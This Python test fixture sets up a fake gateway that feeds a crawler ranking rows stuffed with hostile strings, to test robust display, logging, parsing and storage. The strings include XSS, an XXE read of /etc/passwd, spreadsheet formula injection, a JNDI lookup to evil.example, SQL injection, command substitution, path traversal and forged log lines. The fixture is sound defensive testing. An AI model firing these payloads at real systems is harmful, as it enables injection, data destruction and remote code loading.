"""Texts that mean harm to what shows, calculates, logs, parses or stores them, and a gateway that says nothing else."""

import re
from typing import Any

from aiohttp import web

from tests.builders import body, row
from tests.scripted import Answer, Asked

FORGED = "2026-11-24 12:00:00 [scrapy.core.engine] INFO: Spider closed (finished)"
"""What a log line of the crawler's own looks like."""

TEXTS = [
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "\"><svg/onload=alert('1')>", "&lt;b&gt;&amp;&#13;",
    "]]><!--", "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>&e;", "javascript:alert(1)",
    "{{7*7}}${7*7}#{7*7}",
    "=cmd|' /C calc'!A0", "+1+1", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "\n=1+1",
    "＝1+1", "＠SUM(1)", "'=1+1", "''", '=HYPERLINK("http://evil.example","x")', "{=1+1}", "http://evil.example/",
    "007",
    "\x1b[2J\x1b[31mred", "\x1b]0;title\x07", "\x1b]8;;http://evil.example\x1b\\x", "\x9b31mC1", "\x90q\x9c",
    "\x7f\x08\x08",
    f"x\n{FORGED}", f"x\r\n{FORGED}", f"x\r{FORGED}", f"x\x85{FORGED}", f"x\u2028{FORGED}", f"x\u2029{FORGED}",
    "a\vb\fc",
    "a\x00b", "\x00", "\x1a0000", "\x1a", "_x0000__x001B_", "_x001B_", "\\u0000\\x1b\\n", "\\",
    "\u202egnp.exe", "\u2066a\u2069\u200f\u061c", "\u200b\u2060\ufeff", "a\u200db", "👨\u200d👩\u200d👧",
    "Z͑ͫ̓ͪ̂ͫ̽a̴l̷g̵o̴",
    "\ud83d", "a\udc00b", "\ud83d\ud83d\ude00", "\ufffe\uffff", "\U000e0041\U000e007f", "\ue000", "\U0010ffff",
    "'; DROP TABLE polls; --", "x' OR '1'='1", "1); DELETE FROM users; --", "\\copy users to program 'id'",
    "$1 %s %(x)s :x ?",
    "%n%s%x{0}{x.__class__}", "${jndi:ldap://evil.example/a}", "[red]a[/red] [link=x]b[/link] :smile:",
    '","b":"c', "a,b;c\"d'",
    "null", "NaN", "true", " ", "  a  ", "\u3000", "\xa0", "a\tb", "\\N", "../../etc/passwd", "$(id)`id`", "x" * 32_767,
]  # fmt: skip

ALL = "|".join(TEXTS[:-1])


def as_read(text: str) -> str:
    """The text as the crawler reads it: half of a character that is none of its own is replaced."""
    return re.sub("[\ud800-\udfff]", "\ufffd", text.encode("utf-16", "surrogatepass").decode("utf-16", "surrogatepass"))


def hostile_row(rank: int, text: str, score: int) -> dict[str, Any]:
    """A row all of whose texts are this one."""
    user = {
        "id": 1000 + rank,
        "id_str": str(1000 + rank),
        "display_id": text,
        "sec_uid": text,
        "nickname": text,
        "avatar_thumb": {"url_list": [text]},
        "pay_grade": {"level": 3, "this_grade_min_diamond": 5, "this_grade_max_diamond": 9, "grade_describe": text},
        "fans_club": {"data": {"club_name": text, "level": 1, "user_fans_club_status": 1}},
    }
    return row(rank, user, score=score, exactly_score=text, score_description=text, gap_description=text)


def hostile(listed: str, refused: list[str]) -> Answer:
    """Gives the one room lists of a row for each text, and each of the others a refusal in the words of one."""

    async def answer(asked: Asked) -> web.Response:
        if asked.room_id == listed:
            rows = [hostile_row(rank, text, 10_000 + asked.number - rank) for rank, text in enumerate(TEXTS, 1)]
            listing = body(*rows, user_count_desc=ALL, currency=ALL)
            return web.Response(body=listing.replace(b"1631843079980", b"%d" % (1_631_843_079_980 + asked.number)))
        number = refused.index(asked.room_id)
        text = TEXTS[number]
        said = ({"msg": text}, {"router": text}, {"data": {"data": {"prompts": text}, "status_code": 1}})[number % 3]
        return web.json_response({"code": 500} | said)

    return answer
